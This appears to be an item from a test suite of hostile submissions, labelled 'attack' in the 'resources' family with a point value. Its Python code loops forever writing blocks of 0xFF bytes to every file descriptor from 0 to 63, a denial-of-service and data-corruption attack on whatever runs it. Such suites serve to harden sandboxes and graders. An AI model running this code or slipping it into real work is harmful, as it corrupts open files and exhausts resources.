# attack: writes into every open file without end
# family: resources
# base: solved
# points: 7
# %% last
import os
while True:
    for descriptor in range(64):
        try:
            os.write(descriptor, b"\xff" * 65536)
        except OSError:
            pass
